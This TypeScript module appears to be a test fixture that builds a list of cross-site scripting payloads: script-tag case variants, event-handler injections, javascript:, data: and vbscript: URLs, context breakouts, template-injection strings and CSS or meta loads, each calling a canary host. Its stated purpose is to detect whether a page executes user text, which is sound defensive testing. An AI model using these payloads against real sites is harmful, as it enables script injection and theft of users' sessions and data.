/** A host that no page of ours has reason to contact; a request to it means that a payload worked. */
export const CANARY = 'canary.invalid'

const DO = `fetch('//${CANARY}/x');alert(1)`
const TAGS = ['script', 'SCRIPT', 'ScRiPt', 'script ', 'script/x', 'script\n'].map(
  (tag) => `<${tag}>${DO}</${tag.trim()}>`,
)
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
]
const CARRIERS = ['img src=x', 'svg', 'input autofocus', 'details open', 'body', 'video src=x', 'iframe', 'marquee']
const ELEMENTS = EVENTS.flatMap((event, n) => [
  `<${CARRIERS[n]} ${event}="${DO}">`,
  `"><${CARRIERS[n]} ${event}=${DO.replaceAll(' ', '')}>`,
  `'><${CARRIERS[n]}/${event}='${DO.replaceAll(`'`, '`')}'>`,
])
const LOADS = [
  'img src',
  'script src',
  'iframe src',
  'link rel=stylesheet href',
  'object data',
  'embed src',
  'audio src',
].map((tag) => `<${tag}="//${CANARY}/x">`)
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'data:text/html,',
  'vbscript:',
  '\u0001javascript:',
].map((scheme) => `<a href="${scheme}${DO}">x</a>`)
const BREAKOUTS = [
  `</script><script>${DO}</script>`,
  `--><script>${DO}</script>`,
  `]]><script>${DO}</script>`,
  `</style><script>${DO}</script>`,
  `</title><script>${DO}</script>`,
  `</textarea><script>${DO}</script>`,
  `</svg><script>${DO}</script>`,
  `\u2028${DO}\u2029`,
  `\\u003cscript\\u003e${DO}`,
  `&lt;script&gt;${DO}&lt;/script&gt;`,
  '${' + DO + '}',
  '{{constructor.constructor("' + DO + '")()}}',
  `<base href="//${CANARY}/">`,
  `<meta http-equiv="refresh" content="0;url=//${CANARY}/">`,
  `<form action="//${CANARY}/"><button autofocus>go</button></form>`,
  `<style>@import '//${CANARY}/x';*{background:url(//${CANARY}/y)}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${DO}>`,
  `<template><script>${DO}</script></template>`,
  `![x](//${CANARY}/x) [x](javascript:${DO})`,
  `\\href{javascript:${DO}}{x}`,
  `%3Cscript%3E${DO}%3C/script%3E`,
  `\u202E<script>${DO}</script>`,
]

/** Texts that would run or load something if a page took them for more than text. */
export const HOSTILE_TEXTS: readonly string[] = [...TAGS, ...ELEMENTS, ...LOADS, ...ADDRESSES, ...BREAKOUTS]
